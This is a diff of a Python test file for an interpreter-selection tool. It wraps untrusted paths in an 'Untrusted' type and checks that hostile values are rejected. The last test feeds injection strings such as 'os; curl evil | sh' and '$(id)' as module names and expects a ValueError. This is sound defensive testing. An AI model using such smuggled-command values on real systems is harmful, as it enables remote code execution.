@@ -22,10 +22,14 @@ from aboard.core.node import Node
 from aboard.core.program import Kind, Program, read_python_command
 from aboard.core.rank_environment import RankEnvironment, RankSpec, environment_question, read_environment
 from aboard.diagnoses import Finding, Severity
+from aboard.diagnoses.untrusted import Untrusted
 
 VENV = "/home/me/venv/bin/python"
 OFFERED = HeadEnvironment(python=VENV, origin=Origin.VIRTUAL_ENV)
-FOUND = FoundInterpreter(exists=True, prefix="/home/me/venv", variable="VIRTUAL_ENV", search_path="/usr/bin")
+FOUND = FoundInterpreter(
+    exists=True, prefix=Untrusted("/home/me/venv"), variable="VIRTUAL_ENV", search_path=Untrusted("/usr/bin")
+)
+BOBS = Untrusted("bob's")
 LOGIN = Interpreter(path="python3", origin=Origin.LOGIN_SHELL)
 CHOSEN = Interpreter(
     path=VENV,
@@ -40,9 +44,9 @@ CHOSEN = Interpreter(
         (None, OFFERED, FOUND, CHOSEN),
         (None, None, None, LOGIN),
         (None, OFFERED, FoundInterpreter(exists=False), replace(LOGIN, lacking=VENV)),
-        (None, OFFERED, replace(FOUND, unsafe="bob's"), replace(LOGIN, lacking=VENV, refused="bob's")),
+        (None, OFFERED, replace(FOUND, unsafe=BOBS), replace(LOGIN, lacking=VENV, refused=BOBS)),
         # What was written down is the user's own decision, and also an environment.
-        (Interpreter(path=VENV, origin=Origin.CONFIGURED), None, replace(FOUND, unsafe="bob's"), None),
+        (Interpreter(path=VENV, origin=Origin.CONFIGURED), None, replace(FOUND, unsafe=BOBS), None),
         (
             Interpreter(path="python3", origin=Origin.SETUP),
             OFFERED,
@@ -59,7 +63,7 @@ def test_the_choice(configured: Any, offered: Any, found: Any, chosen: Interpret
 
 def test_what_already_runs_aboard_here_is_not_refused_here() -> None:
     """It is running with this user's rights already; on another machine it is not."""
-    unsafe = replace(FOUND, unsafe="bob's")
+    unsafe = replace(FOUND, unsafe=BOBS)
     running = replace(OFFERED, running=True)
     assert choose_interpreter(None, running, unsafe, local=True).path == VENV
     assert choose_interpreter(None, running, unsafe, local=False).path == "python3"
@@ -201,7 +205,7 @@ def test_programs_may_differ_and_scripts_are_where_their_paths_lead() -> None:
     ):
         found = read_environment(node, RankSpec(program=program), reply).program
         assert found is not None
-        assert (found.path, found.digest) == (path, digest)
+        assert (found.path, found.digest.visible()) == (path, digest)
 
 
 def test_a_path_is_taken_whole_or_not_at_all() -> None:
@@ -230,7 +234,7 @@ def test_a_reply_is_data() -> None:
     told = read_environment(Node(name="n1", workdir="/job"), spec, reply)
     assert told.program is not None
     # A fix copies this path to the node.
-    assert (told.program.path, told.program.problem, told.workdir) == ("/job/train.py", "\\x1b", None)
+    assert (told.program.path, told.program.problem.visible(), told.workdir) == ("/job/train.py", "\\x1b", None)
     for name in ("os; curl evil | sh", "$(id)", "a.b-c"):
         program = {"module": "", "asked_module": "", "needed": [], "imports": {}, "missing": [name]}
         with pytest.raises(ValueError, match="can't be read"):
